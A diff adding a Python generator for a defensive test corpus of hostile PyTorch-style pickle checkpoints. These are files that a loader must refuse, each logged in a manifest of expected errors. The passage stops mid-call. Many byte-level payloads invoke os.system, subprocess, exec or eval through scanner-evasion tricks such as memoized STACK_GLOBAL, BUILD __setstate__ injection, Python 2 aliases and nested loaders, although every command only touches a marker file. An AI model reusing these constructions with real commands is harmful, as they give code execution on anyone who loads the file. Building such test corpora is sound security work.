@@ -1,0 +1,1107 @@
+#!/usr/bin/env python3
+"""Write the malicious test corpus: hostile checkpoints that tensorplay must refuse
+without running anything, and ``manifest.json`` describing each of them.
+
+    python tests/malicious/make_corpus.py            # writes tests/malicious/files/ and manifest.json
+    python tests/malicious/make_corpus.py --out DIR  # writes DIR/files/ and DIR/manifest.json
+
+Every file is assembled here from raw bytes: pickles from opcodes, zips from headers,
+DEFLATE streams from a small deterministic encoder (so the output does not depend on
+the zlib build). Nothing is ever unpickled; the only pickle-related module used is
+``pickletools``, to check that the streams meant to be well formed disassemble.
+Running the generator twice gives byte-identical output.
+
+Every code-execution payload, if it ever ran, would create ``tensorplay_pwned_marker``
+in the current directory.
+
+Manifest entries: ``file``, ``family``, ``description``, ``load_error`` (the exception
+class ``tensorplay.load`` must raise), ``scan_verdict`` (``"unsafe"`` when the file
+holds a code-execution global or extension code, else ``"unreadable"``) and
+``dangerous_globals`` (the ``module.name`` of each code-execution global a scanner
+must report, after Python 2 name mapping; globals only reachable by unpacking an
+embedded pickle or archive are listed when the nesting is the file's whole point).
+"""
+from __future__ import annotations
+
+import argparse
+import hashlib
+import io
+import json
+import pathlib
+import pickletools
+import shutil
+import struct
+import tarfile
+import zlib
+
+HERE = pathlib.Path(__file__).resolve().parent
+MARKER = "tensorplay_pwned_marker"
+TOUCH = f"touch {MARKER}"
+PY_MARKER = f"open({MARKER!r}, 'w').close()"
+
+UNSAFE = "UnsafeCheckpointError"
+MALFORMED = "MalformedCheckpointError"
+LIMIT = "LimitExceededError"
+UNSUPPORTED = "UnsupportedCheckpointError"
+
+# --------------------------------------------------------------------------------------
+# Pickle opcodes (pickletools names), spelled out so this file needs no pickle import.
+
+MARK, STOP, POP, DUP = b"(", b".", b"0", b"2"
+INT, LONG, NONE, PERSID, BINPERSID, REDUCE = b"I", b"L", b"N", b"P", b"Q", b"R"
+STRING, BINSTRING, SHORT_BINSTRING, UNICODE, BINUNICODE = b"S", b"T", b"U", b"V", b"X"
+BININT, BININT1, BININT2 = b"J", b"K", b"M"
+APPEND, BUILD, GLOBAL, DICT, EMPTY_DICT, APPENDS = b"a", b"b", b"c", b"d", b"}", b"e"
+GET, BINGET, INST, LONG_BINGET, LIST, EMPTY_LIST = b"g", b"h", b"i", b"j", b"l", b"]"
+OBJ, PUT, BINPUT, LONG_BINPUT, SETITEM, TUPLE = b"o", b"p", b"q", b"r", b"s", b"t"
+EMPTY_TUPLE, SETITEMS = b")", b"u"
+BINBYTES, SHORT_BINBYTES = b"B", b"C"
+PROTO, NEWOBJ, EXT1, EXT2, EXT4 = b"\x80", b"\x81", b"\x82", b"\x83", b"\x84"
+TUPLE1, TUPLE2, TUPLE3, NEWTRUE, NEWFALSE = b"\x85", b"\x86", b"\x87", b"\x88", b"\x89"
+LONG1, LONG4 = b"\x8a", b"\x8b"
+SHORT_BINUNICODE, BINUNICODE8, BINBYTES8 = b"\x8c", b"\x8d", b"\x8e"
+NEWOBJ_EX, STACK_GLOBAL, MEMOIZE, FRAME = b"\x92", b"\x93", b"\x94", b"\x95"
+BYTEARRAY8 = b"\x96"
+
+
+def proto(n: int) -> bytes:
+    return PROTO + bytes([n])
+
+
+def glob(module: str, name: str) -> bytes:
+    return GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def u(s: str) -> bytes:
+    """BINUNICODE."""
+    b = s.encode("utf-8", "surrogatepass")
+    return BINUNICODE + struct.pack("<I", len(b)) + b
+
+
+def su(s: str) -> bytes:
+    """SHORT_BINUNICODE (protocol 4)."""
+    b = s.encode()
+    assert len(b) < 256
+    return SHORT_BINUNICODE + bytes([len(b)]) + b
+
+
+def binbytes(b: bytes) -> bytes:
+    """SHORT_BINBYTES or BINBYTES (protocol 3)."""
+    if len(b) < 256:
+        return SHORT_BINBYTES + bytes([len(b)]) + b
+    return BINBYTES + struct.pack("<I", len(b)) + b
+
+
+def text_string(s: str) -> bytes:
+    """Protocol 0 STRING (a py2 str literal)."""
+    assert "'" not in s and "\\" not in s and "\n" not in s
+    return STRING + b"'" + s.encode() + b"'\n"
+
+
+def short_binstring(s: str) -> bytes:
+    b = s.encode()
+    assert len(b) < 256
+    return SHORT_BINSTRING + bytes([len(b)]) + b
+
+
+def i(n: int) -> bytes:
+    """An int as protocol 2 writes it."""
+    if 0 <= n < 256:
+        return BININT1 + bytes([n])
+    if 0 <= n < 65536:
+        return BININT2 + struct.pack("<H", n)
+    if -(2**31) <= n < 2**31:
+        return BININT + struct.pack("<i", n)
+    length = (n.bit_length() + 8) // 8
+    return LONG1 + bytes([length]) + n.to_bytes(length, "little", signed=True)
+
+
+def put(k: int) -> bytes:
+    return BINPUT + bytes([k]) if k < 256 else LONG_BINPUT + struct.pack("<I", k)
+
+
+def get(k: int) -> bytes:
+    return BINGET + bytes([k]) if k < 256 else LONG_BINGET + struct.pack("<I", k)
+
+
+def tup(*items: bytes) -> bytes:
+    if not items:
+        return EMPTY_TUPLE
+    if len(items) <= 3:
+        return b"".join(items) + (TUPLE1, TUPLE2, TUPLE3)[len(items) - 1]
+    return MARK + b"".join(items) + TUPLE
+
+
+def lst(*items: bytes) -> bytes:
+    if not items:
+        return EMPTY_LIST
+    if len(items) == 1:
+        return EMPTY_LIST + items[0] + APPEND
+    return EMPTY_LIST + MARK + b"".join(items) + APPENDS
+
+
+def dct(*pairs: tuple[bytes, bytes]) -> bytes:
+    if not pairs:
+        return EMPTY_DICT
+    return EMPTY_DICT + MARK + b"".join(k + v for k, v in pairs) + SETITEMS
+
+
+def call(fn: bytes, *args: bytes) -> bytes:
+    """``fn(*args)`` through REDUCE."""
+    return fn + tup(*args) + REDUCE
+
+
+def pkl(body: bytes, protocol: int = 2) -> bytes:
+    return proto(protocol) + body + STOP
+
+
+def py_bytes(b: bytes) -> bytes:
+    """A bytes object as protocol 2 writes it: ``_codecs.encode(latin1 text, 'latin1')``."""
+    return call(glob("_codecs", "encode"), u(b.decode("latin1")), u("latin1"))
+
+
+def ordered_dict() -> bytes:
+    return call(glob("collections", "OrderedDict"))
+
+
+def os_system() -> bytes:
+    return call(glob("os", "system"), u(TOUCH))
+
+
+def storage_pid(key: str = "0", numel: int = 4, stype: bytes | None = None, location: str = "cpu") -> bytes:
+    stype = glob("torch", "FloatStorage") if stype is None else stype
+    return MARK + u("storage") + stype + u(key) + u(location) + i(numel) + TUPLE + BINPERSID
+
+
+def tensor(pid: bytes | None = None, offset: int = 0, size=(4,), stride=(1,)) -> bytes:
+    """``torch._utils._rebuild_tensor_v2(storage, offset, size, stride, False, OrderedDict())``."""
+    pid = storage_pid() if pid is None else pid
+    return (
+        glob("torch._utils", "_rebuild_tensor_v2")
+        + MARK
+        + pid
+        + i(offset)
+        + tup(*map(i, size))
+        + tup(*map(i, stride))
+        + NEWFALSE
+        + ordered_dict()
+        + TUPLE
+        + REDUCE
+    )
+
+
+def state_dict(*items: tuple[str, bytes]) -> bytes:
+    """An ``OrderedDict`` state dict with its (empty) ``_metadata`` BUILD, as nn.Module writes it."""
+    body = ordered_dict() + MARK + b"".join(u(k) + v for k, v in items) + SETITEMS
+    return body + dct((u("_metadata"), ordered_dict())) + BUILD
+
+
+FLOATS4 = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
+BENIGN_PKL = pkl(state_dict(("weight", tensor())))
+MALICIOUS_PKL = pkl(os_system())
+
+
+def check_pickle(data: bytes) -> None:
+    """Disassemble a stream meant to be well formed (never executes it)."""
+    ops = list(pickletools.genops(data))
+    assert ops[-1][0].name == "STOP", "stream does not end in STOP"
+    assert ops[-1][2] + 1 == len(data), "bytes after STOP"
+
+
+# --------------------------------------------------------------------------------------
+# DEFLATE: a deterministic encoder for inputs made of repeated units. One dynamic-Huffman
+# block; repeats become length-258 back-references costing 2 bits each (about 1000:1).
+
+_LEN_BASE = [3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59,
+             67, 83, 99, 115, 131, 163, 195, 227, 258]
+_LEN_EXTRA = [0] * 8 + [1] * 4 + [2] * 4 + [3] * 4 + [4] * 4 + [5] * 4 + [0]
+_DIST_BASE = [1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513,
+              769, 1025, 1537, 2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577]
+_DIST_EXTRA = [0, 0, 0, 0, 1, 1, 2, 2, 3, 3, 4, 4, 5, 5, 6, 6, 7, 7, 8, 8, 9, 9, 10, 10,
+               11, 11, 12, 12, 13, 13]
+_CL_ORDER = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15]
+
+
+def _code_index(bases: list[int], value: int) -> int:
+    k = len(bases) - 1
+    while bases[k] > value:
+        k -= 1
+    return k
+
+
+def _balanced(symbols: list[int]) -> dict[int, int]:
+    """Code lengths of a complete prefix code with leaves as level as possible."""
+    n = len(symbols)
+    if n == 1:
+        return {symbols[0]: 0}
+    depth = (n - 1).bit_length()
+    shallow = (1 << depth) - n
+    return {s: depth - 1 if k < shallow else depth for k, s in enumerate(symbols)}
+
+
+def _lengths(used: set[int], heavy: int | None, pad: list[int]) -> dict[int, int]:
+    """Complete code lengths for `used` (padded to two symbols); `heavy` gets 1 bit."""
+    symbols = sorted(used)
+    for extra in pad:
+        if len(symbols) >= 2:
+            break
+        if extra not in symbols:
+            symbols = sorted(symbols + [extra])
+    if heavy in symbols:
+        rest = [s for s in symbols if s != heavy]
+        out = {s: n + 1 for s, n in _balanced(rest).items()}
+        out[heavy] = 1
+        return out
+    return _balanced(symbols)
+
+
+def _canonical(lengths: dict[int, int]) -> dict[int, tuple[int, int]]:
+    """symbol -> (bit-reversed code, length), as RFC 1951 assigns codes."""
+    max_len = max(lengths.values())
+    count = [0] * (max_len + 1)
+    for n in lengths.values():
+        count[n] += 1
+    count[0] = 0
+    code, next_code = 0, [0] * (max_len + 1)
+    for bits in range(1, max_len + 1):
+        code = (code + count[bits - 1]) << 1
+        next_code[bits] = code
+    out = {}
+    for s in sorted(lengths):
+        n = lengths[s]
+        if n:
+            c = next_code[n]
+            next_code[n] += 1
+            out[s] = (int(format(c, f"0{n}b")[::-1], 2), n)
+    return out
+
+
+class _Bits:
+    def __init__(self):
+        self.acc, self.n, self.out = 0, 0, bytearray()
+
+    def put(self, value: int, nbits: int) -> None:
+        self.acc |= value << self.n
+        self.n += nbits
+        while self.n >= 8:
+            self.out.append(self.acc & 0xFF)
+            self.acc >>= 8
+            self.n -= 8
+
+    def done(self) -> bytes:
+        if self.n:
+            self.out.append(self.acc & 0xFF)
+        return bytes(self.out)
+
+
+def _tokens(segments):
+    """Literals and (length, distance) matches reproducing `unit * count` per segment."""
+    for unit, count in segments:
+        if count <= 0:
+            continue
+        yield from unit
+        period, remaining, pos = len(unit), len(unit) * (count - 1), len(unit)
+        assert period <= 32768
+        while remaining:
+            if remaining < 3:
+                yield unit[pos % period]
+                pos += 1
+                remaining -= 1
+                continue
+            take = 258 if remaining >= 261 or remaining == 258 else (remaining - 3 if remaining > 258 else remaining)
+            yield (take, period)
+            pos += take
+            remaining -= take
+
+
+def deflate(segments) -> bytes:
+    """Raw DEFLATE of the concatenation of ``unit * count`` for each ``(unit, count)``."""
+    lit_used, dist_used, lit_freq = {256}, set(), {}
+    for t in _tokens(segments):
+        if isinstance(t, int):
+            lit_used.add(t)
+        else:
+            sym = 257 + _code_index(_LEN_BASE, t[0])
+            lit_used.add(sym)
+            lit_freq[sym] = lit_freq.get(sym, 0) + 1
+            dist_used.add(_code_index(_DIST_BASE, t[1]))
+    heavy = max(lit_freq, key=lambda s: (lit_freq[s], s)) if lit_freq else None
+    lit_len = _lengths(lit_used, heavy, [0, 1])
+    dist_len = _lengths(dist_used, min(dist_used) if dist_used else None, [0, 1])
+    num_lit = max(257, max(lit_len) + 1)
+    num_dist = max(1, max(dist_len) + 1)
+    seq = [lit_len.get(s, 0) for s in range(num_lit)] + [dist_len.get(s, 0) for s in range(num_dist)]
+    cl_tokens, k = [], 0
+    while k < len(seq):
+        v, run = seq[k], 1
+        while k + run < len(seq) and seq[k + run] == v:
+            run += 1
+        k += run
+        if v == 0:
+            while run >= 11:
+                take = min(run, 138)
+                cl_tokens.append((18, 7, take - 11))
+                run -= take
+            if run >= 3:
+                cl_tokens.append((17, 3, run - 3))
+                run = 0
+        cl_tokens.extend((v, 0, 0) for _ in range(run))
+    cl_len = _lengths({t[0] for t in cl_tokens}, None, [0, 1])
+    num_cl = max(4, max(_CL_ORDER.index(s) for s, n in cl_len.items() if n) + 1)
+    lit_codes, dist_codes, cl_codes = _canonical(lit_len), _canonical(dist_len), _canonical(cl_len)
+
+    bits = _Bits()
+    bits.put(1, 1)  # BFINAL
+    bits.put(2, 2)  # dynamic Huffman
+    bits.put(num_lit - 257, 5)
+    bits.put(num_dist - 1, 5)
+    bits.put(num_cl - 4, 4)
+    for s in _CL_ORDER[:num_cl]:
+        bits.put(cl_len.get(s, 0), 3)
+    for sym, nextra, extra in cl_tokens:
+        bits.put(*cl_codes[sym])
+        if nextra:
+            bits.put(extra, nextra)
+    for t in _tokens(segments):
+        if isinstance(t, int):
+            bits.put(*lit_codes[t])
+            continue
+        length, dist = t
+        li = _code_index(_LEN_BASE, length)
+        bits.put(*lit_codes[257 + li])
+        if _LEN_EXTRA[li]:
+            bits.put(length - _LEN_BASE[li], _LEN_EXTRA[li])
+        di = _code_index(_DIST_BASE, dist)
+        bits.put(*dist_codes[di])
+        if _DIST_EXTRA[di]:
+            bits.put(dist - _DIST_BASE[di], _DIST_EXTRA[di])
+    bits.put(*lit_codes[256])
+    out = bits.done()
+    _check_deflate(out, segments)
+    return out
+
+
+def _check_deflate(data: bytes, segments) -> None:
+    """Inflate `data` in chunks and compare it with the segments (by length and sha256)."""
+    want, size = hashlib.sha256(), 0
+    for unit, count in segments:
+        chunk = unit * max(1, (1 << 20) // max(1, len(unit)))
+        per = len(chunk) // len(unit) if unit else 0
+        left = count
+        while left > 0:
+            n = min(left, per)
+            want.update(chunk if n == per else unit * n)
+            size += len(unit) * n
+            left -= n
+    got, total = hashlib.sha256(), 0
+    inflater = zlib.decompressobj(-15)
+    buf = data
+    while True:
+        piece = inflater.decompress(buf, 1 << 22)
+        got.update(piece)
+        total += len(piece)
+        buf = inflater.unconsumed_tail
+        if not piece and not buf:
+            break
+    assert inflater.eof and not inflater.unused_data, "DEFLATE stream is not exactly one stream"
+    assert (total, got.digest()) == (size, want.digest()), "DEFLATE stream does not reproduce its input"
+
+
+# --------------------------------------------------------------------------------------
+# ZIP: a writer that lets every header field lie on its own.
+
+class Entry:
+    def __init__(self, name, data, *, method=0, usize=None, crc=None, flags=0, align=True,
+                 lfh_name=None, lfh_method=None, lfh_sizes=None, lfh_crc=None,
+                 cd_sizes=None, cd_offset=None, plain=None):
+        """`data` is the payload as stored; `plain` the uncompressed bytes (for the CRC)
+        when it differs. Every `lfh_*`/`cd_*` field overrides one header alone."""
+        self.name, self.data, self.method = name, data, method
+        self.usize = len(data) if usize is None else usize
+        if crc is None:
+            crc = zlib.crc32(data if plain is None else plain)
+        self.crc, self.flags, self.align = crc, flags, align
+        self.lfh_name, self.lfh_method, self.lfh_sizes = lfh_name, lfh_method, lfh_sizes
+        self.lfh_crc = lfh_crc
+        self.cd_sizes, self.cd_offset = cd_sizes, cd_offset
+
+
+def _zip64_extra(values: list[int]) -> bytes:
+    if not values:
+        return b""
+    return struct.pack("<HH", 1, 8 * len(values)) + b"".join(struct.pack("<Q", v) for v in values)
+
+
+def zip_archive(entries: list[Entry], *, eocd_entries=None) -> bytes:
+    """Local headers and payloads, then the central directory and end records."""
+    out = bytearray()
+    central = []
+    for e in entries:
+        offset = len(out)
+        name = (e.lfh_name if e.lfh_name is not None else e.name).encode()
+        csize, usize = e.lfh_sizes if e.lfh_sizes is not None else (len(e.data), e.usize)
+        big = csize >= 0xFFFFFFFF or usize >= 0xFFFFFFFF
+        extra = _zip64_extra([usize, csize]) if big else b""
+        if big:
+            csize = usize = 0xFFFFFFFF
+        if e.align:
+            start = offset + 30 + len(name) + len(extra) + 4
+            extra += struct.pack("<HH", 0x4246, (-start) % 64) + b"Z" * ((-start) % 64)
+        out += struct.pack(
+            "<IHHHHHIIIHH", 0x04034B50, 45 if big else 20,
+            e.flags,
+            e.method if e.lfh_method is None else e.lfh_method,
+            0, 0x21, e.crc if e.lfh_crc is None else e.lfh_crc, csize, usize, len(name), len(extra),
+        )
+        out += name + extra + e.data
+        central.append((e, offset))
+    cd_start = len(out)
+    for e, offset in central:
+        name = e.name.encode()
+        csize, usize = e.cd_sizes if e.cd_sizes is not None else (len(e.data), e.usize)
+        offset = e.cd_offset if e.cd_offset is not None else offset
+        z64 = [v for v in (usize, csize) if v >= 0xFFFFFFFF]
+        extra = _zip64_extra(z64)
+        usize = min(usize, 0xFFFFFFFF)
+        csize = min(csize, 0xFFFFFFFF)
+        out += struct.pack(
+            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 45 if z64 else 20, e.flags, e.method, 0, 0x21,
+            e.crc, csize, usize, len(name), len(extra), 0, 0, 0, 0, offset,
+        )
+        out += name + extra
+    cd_size = len(out) - cd_start
+    count = len(central) if eocd_entries is None else eocd_entries
+    if count >= 0xFFFF:
+        z64_at = len(out)
+        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 45, 0, 0, count, count, cd_size, cd_start)
+        out += struct.pack("<IIQI", 0x07064B50, 0, z64_at, 1)
+    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(count, 0xFFFF), min(count, 0xFFFF),
+                       cd_size, cd_start, 0)
+    return bytes(out)
+
+
+def checkpoint(pickle_bytes: bytes, storages: dict[str, bytes] | None = None, *, root="archive",
+               extra: list[Entry] | None = None, pkl_entry: Entry | None = None, **zip_kw) -> bytes:
+    """A torch-style checkpoint: data.pkl, byteorder, data/<key>..., version."""
+    entries = [pkl_entry or Entry(f"{root}/data.pkl", pickle_bytes)]
+    entries.append(Entry(f"{root}/byteorder", b"little"))
+    for key, data in (storages or {}).items():
+        entries.append(data if isinstance(data, Entry) else Entry(f"{root}/data/{key}", data))
+    entries += extra or []
+    entries.append(Entry(f"{root}/version", b"3\n"))
+    return zip_archive(entries, **zip_kw)
+
+
+def tensor_checkpoint(pickle_bytes: bytes, **kw) -> bytes:
+    return checkpoint(pickle_bytes, {"0": FLOATS4}, **kw)
+
+
+# --------------------------------------------------------------------------------------
+# Other containers.
+
+def npy(descr: str, shape: tuple, payload: bytes) -> bytes:
+    """A version 1.0 .npy file: magic, header dict padded to 64 bytes, then the data."""
+    header = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}".encode("latin1")
+    pad = (-(10 + len(header) + 1)) % 64
+    header += b" " * pad + b"\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload
+
+
+def object_array_pickle(element: bytes) -> bytes:
+    """What np.save writes for an object array of one element (numpy 1.x names, protocol 3)."""
+    ndarray = (
+        glob("numpy.core.multiarray", "_reconstruct")
+        + tup(glob("numpy", "ndarray"), tup(i(0)), binbytes(b"b"))
+        + REDUCE
+    )
+    dtype = call(glob("numpy", "dtype"), u("O8"), NEWFALSE, NEWTRUE) + tup(
+        i(3), u("|"), NONE, NONE, NONE, i(-1), i(-1), i(63)) + BUILD
+    state = tup(i(1), tup(i(1)), dtype, NEWFALSE, lst(element))
+    return pkl(ndarray + state + BUILD, 3)
+
+
+def tar_archive(members: list[tuple[str, bytes]]) -> bytes:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
+        for name, data in members:
+            info = tarfile.TarInfo(name)
+            info.size, info.mtime, info.mode = len(data), 0, 0o644
+            info.uid = info.gid = 0
+            info.uname = info.gname = ""
+            tar.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+LEGACY_MAGIC = bytes.fromhex("80028a0a6cfc9c46f9206aa850192e")
+LEGACY_PROTOCOL = pkl(i(1001))
+LEGACY_SYS_INFO = pkl(dct(
+    (u("protocol_version"), i(1001)),
+    (u("little_endian"), NEWTRUE),
+    (u("type_sizes"), dct((u("short"), i(2)), (u("int"), i(4)), (u("long"), i(4)))),
+))
+LEGACY_KEY = "94357228610912"
+
+
+def legacy_tensor() -> bytes:
+    """A 4-float tensor whose persistent id has the legacy sixth item (view metadata None)."""
+    pid = MARK + u("storage") + glob("torch", "FloatStorage") + u(LEGACY_KEY) + u("cpu") + i(4) + NONE + TUPLE
+    return tensor(pid + BINPERSID)
+
+
+def legacy_storages() -> bytes:
+    return struct.pack("<q", 4) + FLOATS4
+
+
+# --------------------------------------------------------------------------------------
+# The corpus.
+
+class Corpus:
+    def __init__(self):
+        self.files: dict[str, bytes] = {}
+        self.manifest: list[dict] = []
+
+    def add(self, file, family, description, load_error, data, dangerous=(), *, unsafe=None, wellformed=None):
+        assert file not in self.files, file
+        assert load_error in (UNSAFE, MALFORMED, LIMIT, UNSUPPORTED)
+        if wellformed is not None:
+            check_pickle(wellformed)
+        verdict = "unsafe" if (dangerous or unsafe) else "unreadable"
+        self.files[file] = data
+        self.manifest.append({
+            "file": file,
+            "family": family,
+            "description": description,
+            "load_error": load_error,
+            "scan_verdict": verdict,
+            "dangerous_globals": list(dangerous),
+        })
+
+
+def code_execution(c: Corpus) -> None:
+    fam = "code_execution"
+
+    def zipped(file, description, body, dangerous, protocol=2, raw=None):
+        data = raw if raw is not None else pkl(body, protocol)
+        c.add(file, fam, description, UNSAFE, tensor_checkpoint(data), dangerous, wellformed=data)
+
+    zipped("global_reduce_os_system.pt", "GLOBAL os.system + REDUCE: the classic payload",
+           os_system(), ["os.system"])
+    zipped("global_reduce_posix_system.pt", "GLOBAL posix.system (os.system's real home on Linux)",
+           call(glob("posix", "system"), u(TOUCH)), ["posix.system"])
+    zipped("global_reduce_nt_system.pt", "GLOBAL nt.system (os.system on Windows)",
+           call(glob("nt", "system"), u(TOUCH)), ["nt.system"])
+    zipped("payload_among_tensors.pt",
+           "a real state dict (weight tensor with its data/0 record) whose 'bias' entry is os.system(...)",
+           state_dict(("weight", tensor()), ("bias", os_system())), ["os.system"])
+
+    # STACK_GLOBAL in its forms.
+    zipped("stack_global_strings.pt", "protocol 4 STACK_GLOBAL with module and name pushed as strings",
+           su("os") + su("system") + STACK_GLOBAL + su(TOUCH) + TUPLE1 + REDUCE, ["os.system"], 4)
+    zipped("stack_global_binget.pt",
+           "STACK_GLOBAL whose names come back from the memo (BINGET) after being stored as "
+           "innocent-looking dict values",
+           dct((su("framework"), su("subprocess") + put(1)), (su("entry"), su("check_output") + put(2)))
+           + get(1) + get(2) + STACK_GLOBAL + tup(lst(su("touch"), su(MARKER))) + REDUCE + TUPLE2,
+           ["subprocess.check_output"], 4)
+    zipped("stack_global_text_get.pt",
+           "STACK_GLOBAL whose names were stored with protocol 0 PUT and fetched with text GET",
+           su("builtins") + b"p1\n" + POP + su("exec") + b"p2\n" + POP + b"g1\ng2\n" + STACK_GLOBAL
+           + su(PY_MARKER) + TUPLE1 + REDUCE, ["builtins.exec"], 4)
+    zipped("stack_global_memoize.pt",
+           "STACK_GLOBAL whose names were memoized with MEMOIZE, popped, then fetched with BINGET",
+           su("builtins") + MEMOIZE + POP + su("eval") + MEMOIZE + POP + get(0) + get(1) + STACK_GLOBAL
+           + su(f"__import__('os').system({TOUCH!r})") + TUPLE1 + REDUCE, ["builtins.eval"], 4)
+
+    # INST / OBJ / NEWOBJ / NEWOBJ_EX / BUILD.
+    zipped("inst_opcode.pt", "protocol 0 INST: class and arguments in one text opcode",
+           None, ["os.system"], raw=MARK + text_string(TOUCH) + b"ios\nsystem\n" + STOP)
+    zipped("obj_opcode.pt", "protocol 1 (no PROTO) OBJ calling subprocess.Popen(['touch', marker])",
+           None, ["subprocess.Popen"],
+           raw=MARK + glob("subprocess", "Popen") + lst(u("touch"), u(MARKER)) + OBJ + STOP)
+    zipped("newobj_partial.pt",
+           "NEWOBJ builds functools.partial(os.system, cmd), then REDUCE calls it",
+           glob("functools", "partial") + tup(glob("os", "system"), u(TOUCH)) + NEWOBJ + EMPTY_TUPLE + REDUCE,
+           ["functools.partial", "os.system"])
+    zipped("newobj_ex_partial.pt",
+           "protocol 4 NEWOBJ_EX builds functools.partial(exec, code) with kwargs, then REDUCE calls it",
+           glob("functools", "partial") + tup(glob("builtins", "exec"), su(PY_MARKER)) + EMPTY_DICT
+           + NEWOBJ_EX + EMPTY_TUPLE + REDUCE, ["functools.partial", "builtins.exec"], 4)
+    zipped("build_setstate_injection.pt",
+           "BUILD puts __setstate__=os.system into an allowlisted OrderedDict's __dict__; a second "
+           "BUILD would call it",
+           ordered_dict() + dct((u("__setstate__"), glob("os", "system"))) + BUILD + u(TOUCH) + BUILD,
+           ["os.system"])
+    zipped("build_partial_setstate.pt",
+           "BUILD on a functools.partial runs partial.__setstate__, swapping its function for os.system",
+           glob("functools", "partial") + tup(glob("collections", "OrderedDict")) + NEWOBJ
+           + tup(glob("os", "system"), tup(u(TOUCH)), EMPTY_DICT, NONE) + BUILD + EMPTY_TUPLE + REDUCE,
+           ["functools.partial", "os.system"])
+
+    # Extension codes name a global through copyreg's registry: no name in the file.
+    for op, code, fmt in ((EXT1, 0x01, "<B"), (EXT2, 0x1234, "<H"), (EXT4, 0x12345678, "<I")):
+        name = {EXT1: "ext1", EXT2: "ext2", EXT4: "ext4"}[op]
+        data = pkl(op + struct.pack(fmt, code) + u(TOUCH) + TUPLE1 + REDUCE)
+        c.add(f"{name}_code.pt", fam,
+              f"{name.upper()} extension code {code:#x} used as a callable (a loader that consults "
+              "copyreg's extension registry would call whatever is registered there)",
+              UNSAFE, tensor_checkpoint(data), [], unsafe=True, wellformed=data)
+
+    # Persistent ids.
+    zipped("binpersid_module_id.pt",
+           "BINPERSID with a legacy ('module', cls, file, source) id naming subprocess.Popen; the "
+           "result is then called",
+           MARK + u("module") + glob("subprocess", "Popen") + u("evil.py") + u("") + TUPLE + BINPERSID
+           + tup(lst(u("touch"), u(MARKER))) + REDUCE, ["subprocess.Popen"])
+    zipped("persid_text_id.pt",
+           "protocol 0 PERSID with a text id holding the command, fed to INST os.system",
+           None, ["os.system"], raw=MARK + PERSID + TOUCH.encode() + b"\n" + b"ios\nsystem\n" + STOP)
+
+    # Protocol 0/1 text opcodes.
+    zipped("protocol0_text.pt", "an all-text protocol 0 pickle: GLOBAL, STRING, LIST, TUPLE, REDUCE",
+           None, ["subprocess.check_call"],
+           raw=b"csubprocess\ncheck_call\np0\n((lp1\n" + text_string("touch") + b"a" + text_string(MARKER)
+           + b"atp2\nRp3\n.")
+    zipped("protocol1_hidden.pt",
+           "protocol 1 (no PROTO opcode): a harmless-looking dict of settings, the payload under a "
+           "late key",
+           None, ["os.system"],
+           raw=EMPTY_DICT + b"q\x00" + MARK + short_binstring("lr") + b"G?\xb9\x99\x99\x99\x99\x99\x9a"
+           + short_binstring("epochs") + i(10) + short_binstring("hook") + b"cos\nsystem\nq\x01"
+           + MARK + short_binstring(TOUCH) + TUPLE + REDUCE + SETITEMS + STOP)
+
+    # Python 2 names.
+    zipped("py2_builtin_eval.pt", "Python 2 name __builtin__.eval (maps to builtins.eval)",
+           None, ["builtins.eval"],
+           raw=b"c__builtin__\neval\n(" + text_string(f'__import__("os").system("{TOUCH}")') + b"tR.")
+    zipped("py2_commands_getoutput.pt", "Python 2 name commands.getoutput (maps to subprocess.getoutput)",
+           call(glob("commands", "getoutput"), u(TOUCH)), ["subprocess.getoutput"])
+    inner = pkl(os_system())
+    zipped("py2_cpickle_loads.pt", "Python 2 name cPickle.loads (maps to pickle.loads) of an embedded pickle",
+           call(glob("cPickle", "loads"), py_bytes(inner)), ["pickle.loads"])
+    zipped("py2_copy_reg_reconstructor.pt",
+           "Python 2 name copy_reg._reconstructor(Popen, Popen, args) runs Popen.__init__",
+           call(glob("copy_reg", "_reconstructor"), glob("subprocess", "Popen"), glob("subprocess", "Popen"),
+                lst(u("touch"), u(MARKER))), ["copyreg._reconstructor", "subprocess.Popen"])
+
+    # Nested loaders.
+    zipped("nested_pickle_loads.pt", "pickle.loads of an embedded malicious pickle (protocol 3 bytes)",
+           call(glob("pickle", "loads"), binbytes(inner)), ["pickle.loads"], 3)
+    zipped("nested__pickle_loads.pt", "_pickle.loads (the C unpickler) of an embedded malicious pickle",
+           call(glob("_pickle", "loads"), binbytes(inner)), ["_pickle.loads"], 3)
+    inner_npy = npy("|O", (1,), object_array_pickle(os_system()))
+    zipped("nested_numpy_load.pt",
+           "numpy.load(BytesIO(npy), None, True): allow_pickle=True on an object array with a payload",
+           call(glob("numpy", "load"), call(glob("io", "BytesIO"), binbytes(inner_npy)), NONE, NEWTRUE),
+           ["numpy.load"], 3)
+    inner_zip = tensor_checkpoint(MALICIOUS_PKL)
+    zipped("nested_torch_load.pt",
+           "functools.partial(torch.load, weights_only=False) (built with NEWOBJ_EX) called on a "
+           "BytesIO of an embedded malicious checkpoint",
+           glob("functools", "partial") + tup(glob("torch", "load")) + dct((su("weights_only"), NEWFALSE))
+           + NEWOBJ_EX + tup(call(glob("io", "BytesIO"), binbytes(inner_zip))) + REDUCE,
+           ["functools.partial", "torch.load"], 4)
+
+    # Indirection through getattr, importlib, runpy, operator.
+    zipped("getattr_import_chain.pt", "builtins.getattr(builtins.__import__('os'), 'system')(cmd)",
+           call(call(glob("builtins", "getattr"), call(glob("builtins", "__import__"), u("os")), u("system")),
+                u(TOUCH)), ["builtins.getattr", "builtins.__import__"])
+    zipped("importlib_attrgetter.pt",
